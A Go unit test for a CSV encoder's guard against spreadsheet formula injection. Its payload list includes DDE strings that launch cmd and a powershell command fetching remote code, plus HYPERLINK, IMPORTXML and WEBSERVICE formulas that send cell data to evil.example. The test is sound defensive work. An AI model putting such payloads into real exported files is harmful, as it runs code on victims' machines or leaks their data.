package csv

import (
	stdcsv "encoding/csv"
	"strings"
	"testing"
	"unicode/utf8"
)

// injections are cells that make a spreadsheet run something, by OWASP's page on CSV injection and the payloads that are known.
var injections = []string{
	`=1+1`, `+1+1`, `-1+1`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", "\n=1+1", `＝1+1`, `＋1+1`, `－1+1`, `＠SUM(1+1)`,
	`=cmd|' /C calc'!A0`, `=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
	`=HYPERLINK("http://evil.example?leak="&A1,"click")`, `=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a/a10")`,
	`=WEBSERVICE("http://evil.example/"&A1)`, `+DDE("cmd";"/C calc";"x")`, `=rundll32|'URL.dll,OpenURL calc.exe'!A`, `='file:///etc/passwd'#$passwd.A1`,
	"=1+1\";=1+1", `=1+1";=1+1`, `"=1+1`, `",=1+1,"`, "x\n=1+1", "x,=1+1", `x";=1+1;"`, `'=1+1`, `''=1+1`, ` =1+1`,
}

// What a spreadsheet could run begins with an apostrophe in its cell, stays one cell, and comes back when one apostrophe is taken
// off.
func TestGuardAgainstInjections(t *testing.T) {
	t.Parallel()
	for _, payload := range injections {
		e := &Encoder{marks: true}
		line := string(e.text(nil, []byte("first"))) + "," + string(e.text(nil, []byte(payload))) + "," + string(e.text(nil, []byte("last"))) + "\r\n"
		rows, err := stdcsv.NewReader(strings.NewReader(line)).ReadAll()
		if err != nil || len(rows) != 1 || len(rows[0]) != 3 || rows[0][0] != "first" || rows[0][2] != "last" {
			t.Errorf("%q makes %q of its row (%v)", payload, rows, err)
			continue
		}
		// encoding/csv reads CRLF in a cell as LF; none of the payloads has one.
		cell := rows[0][1]
		if first, _ := utf8.DecodeRuneInString(cell); strings.ContainsRune("=+-@\t\r\n＝＋－＠", first) {
			t.Errorf("%q stands as %q: a spreadsheet may run it", payload, cell)
		}
		back := cell
		if strings.HasPrefix(cell, "'") {
			back = cell[1:]
		}
		if back != payload {
			t.Errorf("%q comes back as %q", payload, back)
		}
		if got := Guarded(payload); got != cell {
			t.Errorf("Guarded(%q) is %q, and the file has %q", payload, got, cell)
		}
	}
}
